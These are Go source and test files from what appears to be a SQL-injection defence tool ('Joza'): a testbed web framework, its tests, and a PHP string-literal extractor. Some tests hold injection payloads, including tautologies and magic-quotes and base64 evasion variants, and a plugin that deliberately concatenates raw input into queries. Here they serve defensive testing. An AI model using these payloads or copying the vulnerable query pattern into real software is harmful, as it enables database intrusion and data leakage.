// Header returns the raw header value (headers are not subject to magic
// quotes in PHP).
func (c *Ctx) Header(name string) string { return c.req.Headers[name] }

// RawGet returns the GET parameter without application transforms.
func (c *Ctx) RawGet(name string) string { return c.req.Get[name] }

// Query issues a database statement through the Joza wrapper: when the app
// has a guard, the query is checked against the request's preserved raw
// inputs first, with the serving plugin's identity as the call site for
// the query-skeleton profile stage. Blocked queries return a
// *joza.AttackError (terminate policy) or a synthetic database error
// (error-virtualization policy).
func (c *Ctx) Query(q string) (*minidb.Result, error) {
	c.page.Queries++
	if g := c.app.guard; g != nil {
		if err := g.AuthorizeContextAt(c.ctx, c.site, q, c.rawInputs); err != nil {
			var ae *joza.AttackError
			if !errors.As(err, &ae) {
				// The check was canceled or timed out: the query was
				// neither authorized nor blocked.
				return nil, err
			}
			c.page.Blocked = true
			if ae.Policy == joza.PolicyErrorVirtualize {
				return nil, &minidb.ExecError{Query: q, Msg: "query failed"}
			}
			return nil, err
		}
	}
	res, err := c.app.db.Query(q)
	if err != nil {
		return nil, err
	}
	c.page.Rows += len(res.Rows)
	c.page.Delay += res.Delay
	return res, nil
}

// RenderRows renders rows as a plain-text table body, the standard page
// body used by testbed plugins.
func RenderRows(res *minidb.Result) string {
	var sb strings.Builder
	for _, row := range res.Rows {
		for j, v := range row {
			if j > 0 {
				sb.WriteString(" | ")
			}
			sb.WriteString(valueString(v))
		}
		sb.WriteByte('\n')
	}
	return sb.String()
}

func valueString(v minidb.Value) string {
	switch x := v.(type) {
	case nil:
		return "NULL"
	case string:
		return x
	default:
		return fmt.Sprintf("%v", x)
	}
}
