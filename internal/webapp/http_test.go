package webapp

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"joza"
)

func newHTTPApp(t *testing.T) *App {
	t.Helper()
	db := newDB(t)
	plain := NewApp(db, WithTransforms(TrimWhitespace, MagicQuotes))
	plain.Install(listPlugin())
	g, err := joza.New(joza.WithFragments(plain.FragmentTexts()))
	if err != nil {
		t.Fatal(err)
	}
	app := NewApp(db, WithTransforms(TrimWhitespace, MagicQuotes), WithGuard(g))
	app.Install(listPlugin(), &Plugin{
		Name: "echo-cookie",
		Handle: func(c *Ctx) (string, error) {
			return c.Cookie("session") + "|" + c.Header("X-Test"), nil
		},
	})
	return app
}

func TestHTTPHandlerBenign(t *testing.T) {
	srv := httptest.NewServer(HTTPHandler(newHTTPApp(t)))
	defer srv.Close()
	resp, err := http.Get(srv.URL + "/list?id=1")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK || !strings.Contains(string(body), "Hello") {
		t.Errorf("status=%d body=%q", resp.StatusCode, body)
	}
}

func TestHTTPHandlerBlocksAttack(t *testing.T) {
	srv := httptest.NewServer(HTTPHandler(newHTTPApp(t)))
	defer srv.Close()
	resp, err := http.Get(srv.URL + "/list?id=" + url.QueryEscape("-1 OR 1=1"))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("status = %d", resp.StatusCode)
	}
	if len(body) != 0 {
		t.Errorf("terminate policy must answer a blank page, got %q", body)
	}
}

func TestHTTPHandlerCookieAndHeaderFlow(t *testing.T) {
	srv := httptest.NewServer(HTTPHandler(newHTTPApp(t)))
	defer srv.Close()
	req, err := http.NewRequest(http.MethodGet, srv.URL+"/echo-cookie", nil)
	if err != nil {
		t.Fatal(err)
	}
	req.AddCookie(&http.Cookie{Name: "session", Value: "abc123"})
	req.Header.Set("X-Test", "hv")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if !strings.Contains(string(body), "abc123") || !strings.Contains(string(body), "hv") {
		t.Errorf("body = %q", body)
	}
}

func TestHTTPHandlerPostForm(t *testing.T) {
	db := newDB(t)
	app := NewApp(db)
	app.Install(&Plugin{
		Name: "form",
		Handle: func(c *Ctx) (string, error) {
			return "got:" + c.Post("v"), nil
		},
	})
	srv := httptest.NewServer(HTTPHandler(app))
	defer srv.Close()
	resp, err := http.PostForm(srv.URL+"/form", url.Values{"v": {"payload"}})
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if string(body) != "got:payload" {
		t.Errorf("body = %q", body)
	}
}

func TestHTTPHandlerNotFound(t *testing.T) {
	srv := httptest.NewServer(HTTPHandler(newHTTPApp(t)))
	defer srv.Close()
	for _, path := range []string{"/", "/no-such-plugin"} {
		resp, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusNotFound {
			t.Errorf("%s: status = %d", path, resp.StatusCode)
		}
	}
}

func TestHTTPHandlerDBError(t *testing.T) {
	db := newDB(t)
	app := NewApp(db)
	app.Install(&Plugin{
		Name: "broken",
		Handle: func(c *Ctx) (string, error) {
			_, err := c.Query("SELECT * FROM missing")
			return "", err
		},
	})
	srv := httptest.NewServer(HTTPHandler(app))
	defer srv.Close()
	resp, err := http.Get(srv.URL + "/broken")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusInternalServerError {
		t.Errorf("status = %d", resp.StatusCode)
	}
}
