package webapp

import (
	"testing"

	"joza"
	"joza/internal/profile"
)

// TestPluginCallSiteThreadsToProfiles drives the full learning-then-
// enforcement loop through the framework: handlers never name their call
// site — the framework stamps "plugin:<name>" on every guard check — so a
// benign training run keys profiles by plugin and an enforcement run
// catches a skeleton change NTI and PTI both miss.
func TestPluginCallSiteThreadsToProfiles(t *testing.T) {
	db := newDB(t)
	// The plugin's vocabulary includes the OR-clause fragment, so PTI
	// trusts the rebuilt attack below; base64 decoding hides the payload
	// from NTI.
	src := pluginSource + `
$alt = " OR id=";
`
	evasive := &Plugin{
		Name:   "list",
		Source: src,
		Handle: func(c *Ctx) (string, error) {
			res, err := c.Query("SELECT id, title FROM posts WHERE id=" + Base64Decode(c.RawGet("id")) + " LIMIT 5")
			if err != nil {
				return "", err
			}
			return RenderRows(res), nil
		},
	}

	newApp := func(g *joza.Guard) *App {
		app := NewApp(db, WithGuard(g))
		app.Install(evasive)
		return app
	}

	// Learning pass over benign traffic.
	rec := joza.NewProfileRecorder()
	gLearn, err := joza.New(
		joza.WithFragments(joza.FragmentsFromSource(src)),
		joza.WithProfileLearning(rec))
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range []string{"1", "2"} {
		page, err := newApp(gLearn).Handle("list", &Request{Get: map[string]string{"id": Base64Encode(id)}})
		if err != nil {
			t.Fatal(err)
		}
		if page.Blocked {
			t.Fatalf("benign training request blocked: %+v", page)
		}
	}
	st := rec.Store()
	if st.Lookup("plugin:list", profile.Skeleton("SELECT id, title FROM posts WHERE id=1 LIMIT 5")) != profile.SkeletonSeen {
		t.Fatalf("framework did not record under plugin:list; store:\n%s", st.Bytes())
	}

	// Enforcement: the base64-wrapped, fragment-rebuilt payload evades
	// both taint analyzers but lands on an unseen skeleton.
	gEnforce, err := joza.New(
		joza.WithFragments(joza.FragmentsFromSource(src)),
		joza.WithProfileStore(st))
	if err != nil {
		t.Fatal(err)
	}
	payload := "1 OR id=2"
	page, err := newApp(gEnforce).Handle("list", &Request{Get: map[string]string{"id": Base64Encode(payload)}})
	if err != nil {
		t.Fatal(err)
	}
	if !page.Blocked {
		t.Fatalf("profile stage did not block the evasive attack: %+v", page)
	}

	// The same benign traffic still serves.
	page, err = newApp(gEnforce).Handle("list", &Request{Get: map[string]string{"id": Base64Encode("1")}})
	if err != nil {
		t.Fatal(err)
	}
	if page.Blocked {
		t.Fatalf("benign request blocked under enforcement: %+v", page)
	}
}
