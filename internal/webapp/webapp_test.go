package webapp

import (
	"errors"
	"strings"
	"testing"

	"joza"
	"joza/internal/minidb"
)

const pluginSource = `<?php
$id = $_GET['id'];
$q = "SELECT id, title FROM posts WHERE id=$id LIMIT 5";
$res = mysql_query($q);
`

func listPlugin() *Plugin {
	return &Plugin{
		Name:   "list",
		Source: pluginSource,
		Handle: func(c *Ctx) (string, error) {
			res, err := c.Query("SELECT id, title FROM posts WHERE id=" + c.Get("id") + " LIMIT 5")
			if err != nil {
				return "", err
			}
			return RenderRows(res), nil
		},
	}
}

func newDB(t *testing.T) *minidb.DB {
	t.Helper()
	db := minidb.New("wp")
	db.MustExec("CREATE TABLE posts (id INT, title TEXT)")
	db.MustExec("INSERT INTO posts VALUES (1, 'Hello'), (2, 'World')")
	return db
}

func protectedApp(t *testing.T, opts ...AppOption) *App {
	t.Helper()
	db := newDB(t)
	app := NewApp(db, opts...)
	app.Install(listPlugin())
	g, err := joza.New(joza.WithFragments(app.FragmentTexts()))
	if err != nil {
		t.Fatal(err)
	}
	// Rebuild with guard, preserving any supplied options.
	app2 := NewApp(db, append(opts, WithGuard(g))...)
	app2.Install(listPlugin())
	return app2
}

func TestBenignRequest(t *testing.T) {
	app := protectedApp(t)
	page, err := app.Handle("list", &Request{Get: map[string]string{"id": "1"}})
	if err != nil {
		t.Fatal(err)
	}
	if page.Blocked || page.DBError {
		t.Fatalf("page = %+v", page)
	}
	if !strings.Contains(page.Body, "Hello") || page.Rows != 1 {
		t.Errorf("body = %q rows = %d", page.Body, page.Rows)
	}
}

func TestAttackBlockedTerminate(t *testing.T) {
	app := protectedApp(t)
	page, err := app.Handle("list", &Request{Get: map[string]string{"id": "-1 OR 1=1"}})
	if err != nil {
		t.Fatal(err)
	}
	if !page.Blocked {
		t.Fatal("attack not blocked")
	}
	if page.Body != "" {
		t.Errorf("terminate policy must yield a blank page, got %q", page.Body)
	}
}

func TestAttackErrorVirtualization(t *testing.T) {
	db := newDB(t)
	app := NewApp(db)
	app.Install(listPlugin())
	g, err := joza.New(
		joza.WithFragments(app.FragmentTexts()),
		joza.WithPolicy(joza.PolicyErrorVirtualize),
	)
	if err != nil {
		t.Fatal(err)
	}
	app = NewApp(db, WithGuard(g))
	app.Install(listPlugin())
	page, err := app.Handle("list", &Request{Get: map[string]string{"id": "-1 OR 1=1"}})
	if err != nil {
		t.Fatal(err)
	}
	if !page.Blocked || !page.DBError {
		t.Fatalf("page = %+v", page)
	}
	if page.Body != "Database error" {
		t.Errorf("body = %q", page.Body)
	}
}

func TestUnprotectedAttackSucceeds(t *testing.T) {
	db := newDB(t)
	app := NewApp(db)
	app.Install(listPlugin())
	page, err := app.Handle("list", &Request{Get: map[string]string{"id": "-1 OR 1=1"}})
	if err != nil {
		t.Fatal(err)
	}
	if page.Blocked {
		t.Fatal("unprotected app blocked")
	}
	if page.Rows != 2 {
		t.Errorf("tautology should leak both rows, got %d", page.Rows)
	}
}

func TestMagicQuotesTransform(t *testing.T) {
	if got := MagicQuotes(`a'b"c\d`); got != `a\'b\"c\\d` {
		t.Errorf("MagicQuotes = %q", got)
	}
	if got := MagicQuotes("x\x00y"); got != `x\0y` {
		t.Errorf("MagicQuotes NUL = %q", got)
	}
	if got := MagicQuotes("plain"); got != "plain" {
		t.Errorf("MagicQuotes plain = %q", got)
	}
}

func TestTransformsAppliedInOrder(t *testing.T) {
	db := newDB(t)
	app := NewApp(db, WithTransforms(TrimWhitespace, MagicQuotes))
	app.Install(&Plugin{
		Name: "echo",
		Handle: func(c *Ctx) (string, error) {
			return c.Get("v"), nil
		},
	})
	page, err := app.Handle("echo", &Request{Get: map[string]string{"v": "  it's  "}})
	if err != nil {
		t.Fatal(err)
	}
	if page.Body != `it\'s` {
		t.Errorf("body = %q", page.Body)
	}
}

func TestBase64Decode(t *testing.T) {
	if Base64Decode("aGVsbG8=") != "hello" {
		t.Error("valid base64")
	}
	if Base64Decode("!!notb64!!") != "!!notb64!!" {
		t.Error("invalid base64 passthrough")
	}
}

func TestRequestInputsOrderAndSources(t *testing.T) {
	r := &Request{
		Get:     map[string]string{"b": "2", "a": "1"},
		Post:    map[string]string{"p": "3"},
		Cookies: map[string]string{"c": "4"},
		Headers: map[string]string{"h": "5"},
	}
	ins := r.Inputs()
	if len(ins) != 5 {
		t.Fatalf("inputs = %v", ins)
	}
	if ins[0].Key() != "get:a" || ins[1].Key() != "get:b" ||
		ins[2].Key() != "post:p" || ins[3].Key() != "cookie:c" || ins[4].Key() != "header:h" {
		t.Errorf("inputs = %v", ins)
	}
}

func TestRawVsTransformedAccessors(t *testing.T) {
	db := newDB(t)
	app := NewApp(db, WithTransforms(MagicQuotes))
	app.Install(&Plugin{
		Name: "acc",
		Handle: func(c *Ctx) (string, error) {
			return c.RawGet("v") + "|" + c.Get("v") + "|" + c.Header("H"), nil
		},
	})
	page, err := app.Handle("acc", &Request{
		Get:     map[string]string{"v": "it's"},
		Headers: map[string]string{"H": "h'v"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if page.Body != `it's|it\'s|h'v` {
		t.Errorf("body = %q", page.Body)
	}
}

func TestNoSuchPlugin(t *testing.T) {
	app := NewApp(newDB(t))
	if _, err := app.Handle("missing", &Request{}); !errors.Is(err, ErrNoSuchPlugin) {
		t.Errorf("err = %v", err)
	}
}

func TestDelayPropagation(t *testing.T) {
	db := newDB(t)
	app := NewApp(db)
	app.Install(&Plugin{
		Name: "slow",
		Handle: func(c *Ctx) (string, error) {
			res, err := c.Query("SELECT SLEEP(3)")
			if err != nil {
				return "", err
			}
			return RenderRows(res), nil
		},
	})
	page, err := app.Handle("slow", &Request{})
	if err != nil {
		t.Fatal(err)
	}
	if page.Delay.Seconds() != 3 {
		t.Errorf("delay = %v", page.Delay)
	}
}

func TestQueriesCounted(t *testing.T) {
	db := newDB(t)
	app := NewApp(db)
	app.Install(&Plugin{
		Name: "multi",
		Handle: func(c *Ctx) (string, error) {
			for i := 0; i < 3; i++ {
				if _, err := c.Query("SELECT COUNT(*) FROM posts"); err != nil {
					return "", err
				}
			}
			return "ok", nil
		},
	})
	page, err := app.Handle("multi", &Request{})
	if err != nil {
		t.Fatal(err)
	}
	if page.Queries != 3 {
		t.Errorf("queries = %d", page.Queries)
	}
}

func TestPluginsAndSources(t *testing.T) {
	db := newDB(t)
	app := NewApp(db, WithCoreSource(`<?php $q = 'SELECT core';`))
	app.Install(listPlugin(), &Plugin{Name: "aaa", Source: `<?php $x = 'SELECT aaa';`})
	if got := app.Plugins(); len(got) != 2 || got[0] != "aaa" || got[1] != "list" {
		t.Errorf("Plugins = %v", got)
	}
	srcs := app.AllSources()
	if len(srcs) != 3 || !strings.Contains(srcs[0], "core") {
		t.Errorf("sources = %d", len(srcs))
	}
	texts := app.FragmentTexts()
	joined := strings.Join(texts, "\n")
	if !strings.Contains(joined, "SELECT core") || !strings.Contains(joined, "SELECT aaa") {
		t.Errorf("fragments = %v", texts)
	}
}

func TestRenderRows(t *testing.T) {
	res := &minidb.Result{Rows: [][]minidb.Value{{int64(1), "a"}, {nil, 2.5}}}
	got := RenderRows(res)
	if got != "1 | a\nNULL | 2.5\n" {
		t.Errorf("RenderRows = %q", got)
	}
}

func TestDatabaseErrorPage(t *testing.T) {
	db := newDB(t)
	app := NewApp(db)
	app.Install(&Plugin{
		Name: "bad",
		Handle: func(c *Ctx) (string, error) {
			_, err := c.Query("SELECT * FROM missing")
			return "", err
		},
	})
	page, err := app.Handle("bad", &Request{})
	if err != nil {
		t.Fatal(err)
	}
	if !page.DBError || page.Body != "Database error" {
		t.Errorf("page = %+v", page)
	}
}

func TestMagicQuotesEvasionEndToEnd(t *testing.T) {
	// The full NTI-evasion scenario: WordPress-style magic quotes inflate
	// the comment block; NTI misses, PTI catches, the hybrid blocks.
	db := newDB(t)
	plain := NewApp(db, WithTransforms(MagicQuotes))
	plain.Install(listPlugin())
	g, err := joza.New(joza.WithFragments(plain.FragmentTexts()))
	if err != nil {
		t.Fatal(err)
	}
	app := NewApp(db, WithTransforms(MagicQuotes), WithGuard(g))
	app.Install(listPlugin())

	payload := "-1 OR 1=1 /*''''''''*/"
	page, err := app.Handle("list", &Request{Get: map[string]string{"id": payload}})
	if err != nil {
		t.Fatal(err)
	}
	if !page.Blocked {
		t.Error("hybrid must block the magic-quotes evasion")
	}
	// Sanity: unprotected, the same attack leaks every row.
	unprotected := NewApp(db, WithTransforms(MagicQuotes))
	unprotected.Install(listPlugin())
	page, err = unprotected.Handle("list", &Request{Get: map[string]string{"id": payload}})
	if err != nil {
		t.Fatal(err)
	}
	if page.Rows != 2 {
		t.Errorf("unprotected evasion leaked %d rows, want 2", page.Rows)
	}
}
