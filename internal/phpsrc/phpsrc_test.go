package phpsrc

import (
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

func extractTexts(t *testing.T, src string) []string {
	t.Helper()
	return Texts(Extract("test.php", src))
}

func TestExtractSingleQuoted(t *testing.T) {
	got := extractTexts(t, `<?php $q = 'SELECT * FROM t'; $x = 'a\'b\\c';`)
	want := []string{"SELECT * FROM t", `a'b\c`}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestExtractDoubleQuotedInterpolation(t *testing.T) {
	// The paper's example: the query splits into two fragments at each
	// interpolated variable.
	src := `<?php $query = "SELECT * from users where id = $id and password=$password";`
	got := extractTexts(t, src)
	want := []string{"SELECT * from users where id = ", " and password="}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestExtractBracedInterpolation(t *testing.T) {
	src := `<?php $q = "SELECT a FROM {$wpdb->posts} WHERE id={$args['id']} LIMIT 5";`
	got := extractTexts(t, src)
	want := []string{"SELECT a FROM ", " WHERE id=", " LIMIT 5"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestExtractVariableAccessors(t *testing.T) {
	src := `<?php $q = "A $obj->field B $arr[0] C";`
	got := extractTexts(t, src)
	want := []string{"A ", " B ", " C"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestExtractFormatPlaceholders(t *testing.T) {
	src := `<?php $q = sprintf("SELECT * FROM t WHERE a=%d AND b='%s'", $a, $b);`
	got := extractTexts(t, src)
	want := []string{"SELECT * FROM t WHERE a=", " AND b='", "'"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestExtractSkipsComments(t *testing.T) {
	src := `<?php
// $q = 'NOT EXTRACTED 1';
# $q = 'NOT EXTRACTED 2';
/* $q = 'NOT EXTRACTED 3'; */
$q = 'EXTRACTED';`
	got := extractTexts(t, src)
	want := []string{"EXTRACTED"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestExtractEscapes(t *testing.T) {
	got := extractTexts(t, `<?php $a = "line\nbreak\ttab\"quote";`)
	want := []string{"line\nbreak\ttab\"quote"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestExtractLineNumbers(t *testing.T) {
	src := "<?php\n\n$a = 'one';\n$b = \"two\";\n"
	lits := Extract("f.php", src)
	if len(lits) != 2 {
		t.Fatalf("got %d literals", len(lits))
	}
	if lits[0].Line != 3 || lits[1].Line != 4 {
		t.Errorf("lines = %d, %d; want 3, 4", lits[0].Line, lits[1].Line)
	}
	if lits[0].File != "f.php" {
		t.Errorf("file = %q", lits[0].File)
	}
}

func TestExtractHeredoc(t *testing.T) {
	src := "<?php $q = <<<SQL\nSELECT * FROM t WHERE id=$id\nSQL;\n"
	got := extractTexts(t, src)
	want := []string{"SELECT * FROM t WHERE id="}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("heredoc got %q, want %q", got, want)
	}
}

func TestExtractNowdocVerbatim(t *testing.T) {
	src := "<?php $q = <<<'SQL'\nSELECT $notinterp\nSQL;\n"
	got := extractTexts(t, src)
	want := []string{"SELECT $notinterp"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("nowdoc got %q, want %q", got, want)
	}
}

func TestExtractUnterminatedString(t *testing.T) {
	got := extractTexts(t, `<?php $q = 'SELECT open`)
	want := []string{"SELECT open"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestExtractEmptyStringsDropped(t *testing.T) {
	got := extractTexts(t, `<?php $a = ''; $b = ""; $c = "$x";`)
	if len(got) != 0 {
		t.Errorf("got %q, want none", got)
	}
}

func TestExtractDirAndFiles(t *testing.T) {
	dir := t.TempDir()
	sub := filepath.Join(dir, "plugins", "demo")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	files := map[string]string{
		filepath.Join(dir, "index.php"):   `<?php $q = 'SELECT 1';`,
		filepath.Join(sub, "plugin.php"):  `<?php $q = 'SELECT 2';`,
		filepath.Join(sub, "ignored.txt"): `'SELECT 3'`,
	}
	for p, content := range files {
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	lits, err := ExtractDir(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	got := Texts(lits)
	want := []string{"SELECT 1", "SELECT 2"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	if _, err := ExtractDir(filepath.Join(dir, "missing"), nil); err == nil {
		t.Error("ExtractDir on missing dir should error")
	}
	if _, err := ExtractFiles([]string{filepath.Join(dir, "nope.php")}); err == nil {
		t.Error("ExtractFiles on missing file should error")
	}
}
