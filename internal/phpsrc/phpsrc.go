// Package phpsrc extracts string literals from PHP-like application source
// code. Positive taint inference (PTI) builds its trusted-fragment set from
// these literals: everything the program itself could contribute to a SQL
// query must originate from a string literal somewhere in the application or
// its plugins.
//
// The extractor mirrors the Joza installer's behaviour:
//
//   - single- and double-quoted string literals are collected;
//   - double-quoted strings are split at interpolation points ($var,
//     {$expr}) because the interpolated value is runtime data, not program
//     text — "SELECT … id = $id AND …" becomes two fragments;
//   - printf-style placeholders (%s, %d, …) split fragments the same way;
//   - comments are skipped, since commented-out code is not reachable
//     program text;
//   - heredoc/nowdoc bodies are collected (heredoc with interpolation
//     splitting, nowdoc verbatim).
//
// Filtering fragments down to those containing at least one SQL token is the
// responsibility of package fragments; this package reports every literal.
package phpsrc

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// Literal is one string fragment extracted from source code.
type Literal struct {
	// Text is the decoded fragment contents (escape sequences resolved).
	Text string
	// File is the path of the source file the literal came from, when the
	// extraction ran over files; empty for in-memory extraction.
	File string
	// Line is the 1-based line number of the start of the literal.
	Line int
}

// Extract returns every string-literal fragment in a single source text.
// name is used for the File field of returned literals and in error
// contexts; it may be empty.
func Extract(name, src string) []Literal {
	e := extractor{name: name, src: src, line: 1}
	e.run()
	return e.out
}

// ExtractFiles extracts literals from each named file.
func ExtractFiles(paths []string) ([]Literal, error) {
	var out []Literal
	for _, p := range paths {
		data, err := os.ReadFile(p)
		if err != nil {
			return nil, fmt.Errorf("read source %s: %w", p, err)
		}
		out = append(out, Extract(p, string(data))...)
	}
	return out, nil
}

// ExtractDir recursively extracts literals from every file under root whose
// extension is one of exts (e.g. ".php"); pass nil to accept ".php" only.
// This mirrors Joza's installation step, which parses all source files
// reachable from the application's top-level directory.
func ExtractDir(root string, exts []string) ([]Literal, error) {
	if exts == nil {
		exts = []string{".php"}
	}
	accept := make(map[string]bool, len(exts))
	for _, e := range exts {
		accept[e] = true
	}
	var paths []string
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			return nil
		}
		if accept[filepath.Ext(path)] {
			paths = append(paths, path)
		}
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("walk %s: %w", root, err)
	}
	sort.Strings(paths)
	return ExtractFiles(paths)
}

// Texts returns just the fragment texts of lits, preserving order.
func Texts(lits []Literal) []string {
	out := make([]string, len(lits))
	for i, l := range lits {
		out[i] = l.Text
	}
	return out
}

type extractor struct {
	name string
	src  string
	pos  int
	line int
	out  []Literal
}

func (e *extractor) run() {
	for e.pos < len(e.src) {
		c := e.src[e.pos]
		switch {
		case c == '\n':
			e.line++
			e.pos++
		case c == '\'':
			e.singleQuoted()
		case c == '"':
			e.doubleQuoted()
		case c == '/' && e.peek(1) == '/':
			e.lineComment()
		case c == '#':
			e.lineComment()
		case c == '/' && e.peek(1) == '*':
			e.blockComment()
		case c == '<' && strings.HasPrefix(e.src[e.pos:], "<<<"):
			e.heredoc()
		default:
			e.pos++
		}
	}
}

func (e *extractor) peek(off int) byte {
	if e.pos+off < len(e.src) {
		return e.src[e.pos+off]
	}
	return 0
}

func (e *extractor) lineComment() {
	for e.pos < len(e.src) && e.src[e.pos] != '\n' {
		e.pos++
	}
}

func (e *extractor) blockComment() {
	e.pos += 2
	for e.pos < len(e.src) {
		if e.src[e.pos] == '\n' {
			e.line++
		}
		if e.src[e.pos] == '*' && e.peek(1) == '/' {
			e.pos += 2
			return
		}
		e.pos++
	}
}

// singleQuoted handles '...' literals: only \' and \\ are escapes; every
// other backslash is literal. No interpolation occurs.
func (e *extractor) singleQuoted() {
	startLine := e.line
	e.pos++
	var sb strings.Builder
	for e.pos < len(e.src) {
		c := e.src[e.pos]
		if c == '\\' && (e.peek(1) == '\'' || e.peek(1) == '\\') {
			sb.WriteByte(e.peek(1))
			e.pos += 2
			continue
		}
		if c == '\'' {
			e.pos++
			e.emit(sb.String(), startLine)
			return
		}
		if c == '\n' {
			e.line++
		}
		sb.WriteByte(c)
		e.pos++
	}
	e.emit(sb.String(), startLine) // unterminated: keep what we have
}

// doubleQuoted handles "..." literals with escape decoding and splitting at
// $var / {$expr} interpolation points and printf placeholders.
func (e *extractor) doubleQuoted() {
	startLine := e.line
	e.pos++
	var sb strings.Builder
	flush := func() {
		e.emit(sb.String(), startLine)
		sb.Reset()
	}
	for e.pos < len(e.src) {
		c := e.src[e.pos]
		switch {
		case c == '\\' && e.pos+1 < len(e.src):
			sb.WriteByte(decodeEscape(e.peek(1)))
			e.pos += 2
		case c == '"':
			e.pos++
			flush()
			return
		case c == '$' && isIdentStart(e.peek(1)):
			flush()
			e.skipVariable()
		case c == '{' && e.peek(1) == '$':
			flush()
			e.skipBracedExpr()
		case c == '%' && isFormatVerb(e.peek(1)):
			flush()
			e.pos += 2
		default:
			if c == '\n' {
				e.line++
			}
			sb.WriteByte(c)
			e.pos++
		}
	}
	flush() // unterminated
}

// skipVariable consumes $name and optional ->prop / [idx] accessors, which
// PHP interpolates inside double-quoted strings.
func (e *extractor) skipVariable() {
	e.pos++ // '$'
	for e.pos < len(e.src) && isIdentByte(e.src[e.pos]) {
		e.pos++
	}
	for {
		switch {
		case e.pos+1 < len(e.src) && e.src[e.pos] == '-' && e.src[e.pos+1] == '>':
			e.pos += 2
			for e.pos < len(e.src) && isIdentByte(e.src[e.pos]) {
				e.pos++
			}
		case e.pos < len(e.src) && e.src[e.pos] == '[':
			depth := 0
			for e.pos < len(e.src) {
				if e.src[e.pos] == '[' {
					depth++
				} else if e.src[e.pos] == ']' {
					depth--
					if depth == 0 {
						e.pos++
						break
					}
				}
				e.pos++
			}
		default:
			return
		}
	}
}

func (e *extractor) skipBracedExpr() {
	depth := 0
	for e.pos < len(e.src) {
		switch e.src[e.pos] {
		case '{':
			depth++
		case '}':
			depth--
			if depth == 0 {
				e.pos++
				return
			}
		case '\n':
			e.line++
		}
		e.pos++
	}
}

// heredoc handles <<<LABEL ... LABEL; and <<<'LABEL' (nowdoc, verbatim).
func (e *extractor) heredoc() {
	e.pos += 3
	nowdoc := false
	if e.pos < len(e.src) && e.src[e.pos] == '\'' {
		nowdoc = true
		e.pos++
	} else if e.pos < len(e.src) && e.src[e.pos] == '"' {
		e.pos++
	}
	labelStart := e.pos
	for e.pos < len(e.src) && isIdentByte(e.src[e.pos]) {
		e.pos++
	}
	label := e.src[labelStart:e.pos]
	if label == "" {
		return
	}
	// Skip to end of line.
	for e.pos < len(e.src) && e.src[e.pos] != '\n' {
		e.pos++
	}
	if e.pos < len(e.src) {
		e.pos++
		e.line++
	}
	bodyStart := e.pos
	startLine := e.line
	// Body runs until a line that begins (after optional indent) with label.
	for e.pos < len(e.src) {
		lineStart := e.pos
		for e.pos < len(e.src) && e.src[e.pos] != '\n' {
			e.pos++
		}
		lineText := strings.TrimLeft(e.src[lineStart:e.pos], " \t")
		if lineText == label || strings.HasPrefix(lineText, label+";") {
			body := e.src[bodyStart:lineStart]
			// The newline before the closing label belongs to the
			// delimiter, not the literal.
			body = strings.TrimSuffix(body, "\n")
			body = strings.TrimSuffix(body, "\r")
			if nowdoc {
				e.emit(body, startLine)
			} else {
				e.emitInterpolated(body, startLine)
			}
			if e.pos < len(e.src) {
				e.pos++
				e.line++
			}
			return
		}
		if e.pos < len(e.src) {
			e.pos++
			e.line++
		}
	}
	// Unterminated heredoc: take everything.
	e.emitInterpolated(e.src[bodyStart:], startLine)
}

// emitInterpolated splits body at $var and {$expr} points like a
// double-quoted string (without escape decoding) and emits the pieces.
func (e *extractor) emitInterpolated(body string, line int) {
	sub := Extract(e.name, `"`+strings.ReplaceAll(body, `"`, `\"`)+`"`)
	for _, l := range sub {
		e.emit(l.Text, line)
	}
}

func (e *extractor) emit(text string, line int) {
	if text == "" {
		return
	}
	e.out = append(e.out, Literal{Text: text, File: e.name, Line: line})
}

func decodeEscape(c byte) byte {
	switch c {
	case 'n':
		return '\n'
	case 't':
		return '\t'
	case 'r':
		return '\r'
	case 'v':
		return '\v'
	case 'f':
		return '\f'
	case '0':
		return 0
	default:
		return c
	}
}

func isIdentStart(c byte) bool {
	return c == '_' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
}

func isIdentByte(c byte) bool {
